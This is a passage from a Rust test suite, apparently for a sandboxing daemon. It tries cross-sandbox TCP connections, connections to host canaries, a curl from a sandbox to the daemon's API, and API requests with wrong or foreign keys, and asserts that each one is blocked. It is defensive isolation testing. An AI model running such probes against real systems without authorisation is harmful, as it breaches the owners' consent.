                other_pem.contains("BEGIN CERTIFICATE") && o.contains("exit=60") && n == 0,
                format!("{o}; origin requests {n}"),
            )
        },
    );
    check(
        &mut rows,
        &mut w,
        "sandbox-to-sandbox",
        "isolation",
        "the other sandbox's listener accepts 0 connections",
        |w| {
            let other_uplink = "10.218.0.14"; // slot 3's router uplink
            let lst = format!("/usr/bin/python3 {} listen 9999 6 &", w.script.display());
            let (_, _, _) = w.d.sh(
                &other,
                &format!("({lst}) > /tmp/listen.out 2>&1; sleep 0.5; echo started"),
                10,
            );
            let _ = w.py(&custom, &format!("tcp {other_uplink} 9999"));
            let _ = w.py(&custom, "tcp 10.0.2.15 9999");
            std::thread::sleep(Duration::from_secs(6));
            let got = w.sh(&other, "cat /tmp/listen.out");
            (got.contains("accepted:0"), format!("listener: {got}"))
        },
    );
    check(
        &mut rows,
        &mut w,
        "sandbox-to-host-services",
        "isolation",
        "host canary 0 contacts (WAN, gateway, uplink)",
        |w| {
            let mut o = String::new();
            for dst in ["192.0.2.1", "10.0.2.2", "10.218.0.1", "2001:db8:ff::1"] {
                o += &w.py(&allowall, &format!("tcp {dst} 7777"));
                o += " ";
            }
            std::thread::sleep(Duration::from_millis(300));
            let n = w.d.lab.host_canary.seen().len();
            (n == 0, format!("{o}; host canary {n}"))
        },
    );
    check(
        &mut rows,
        &mut w,
        "sandbox-to-api-port",
        "isolation",
        "the daemon's API is not reachable from a sandbox",
        |w| {
            let o = w.sh(&allowall, "curl -s -o /dev/null -w '%{http_code}' --max-time 5 http://192.0.2.1:8080/v1/sandboxes; echo \" exit=$?\"");
            (
                o.ends_with("exit=7") || o.ends_with("exit=28"),
                format!("curl {o}"),
            )
        },
    );

    // === the API's own auth ===
    check(
        &mut rows,
        &mut w,
        "api-other-org-id",
        "api-auth",
        "404 for another organization's sandbox",
        |w| {
            let a = w.d.call(
                Method::GET,
                &format!("/v1/sandbox/{custom}/"),
                "/v1/sandbox/{id}/",
                KEY_OTHER,
                None,
            );
            let del = w.d.call(
                Method::DELETE,
                &format!("/v1/sandbox/{custom}/"),
                "/v1/sandbox/{id}/",
                KEY_OTHER,
                None,
            );
            let still = w.d.call(
                Method::GET,
                &format!("/v1/sandbox/{custom}/"),
                "/v1/sandbox/{id}/",
                KEY_DEFAULT,
                None,
            );
            (
                a.status == StatusCode::NOT_FOUND
                    && del.status == StatusCode::NOT_FOUND
                    && still.body["state"] == "running",
                format!(
                    "get {}; delete {}; owner sees {}",
                    a.status, del.status, still.body["state"]
                ),
            )
        },
    );
    check(
        &mut rows,
        &mut w,
        "api-missing-and-wrong-key",
        "api-auth",
        "401 without a key and with a wrong one",
        |w| {
            let none =
                w.d.call_raw(Method::GET, "/v1/sandboxes", None, None)
                    .expect("call");
            let wrong =
                w.d.call_raw(
                    Method::GET,
                    "/v1/sandboxes",
                    Some("tg_wrong_key_00000000"),
                    None,
                )
                .expect("call");
            (
                none.status == StatusCode::UNAUTHORIZED && wrong.status == StatusCode::UNAUTHORIZED,
                format!("{} / {}", none.status, wrong.status),
            )
        },
    );

    // === report ===
    let passed = rows.iter().filter(|r| r.pass).count();
    let failed = rows.len() - passed;
    let mut table = String::new();
    table += &format!(
        "{:<40} {:<13} {:<50} {:<6} observed\n",
        "case", "family", "expected", "result"
    );
    for r in &rows {
        table += &format!(
            "{:<40} {:<13} {:<50} {:<6} {}\n",
            r.name,
            r.family,
            r.expected,
            if r.pass { "PASS" } else { "FAIL" },
            r.observed.replace('\n', " ")
        );
    }
    table += &format!("attacks: {passed} passed, {failed} failed\n");
    let report = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("attacks.txt");
    let _ = std::fs::write(&report, &table);
    println!("{table}");
    eprintln!("{table}");
    assert_eq!(
        failed,
        0,
        "attack suite: {failed} case(s) got through or misbehaved (report {})",
        report.display()
    );
    assert!(rows.len() >= 40, "only {} cases", rows.len());
}
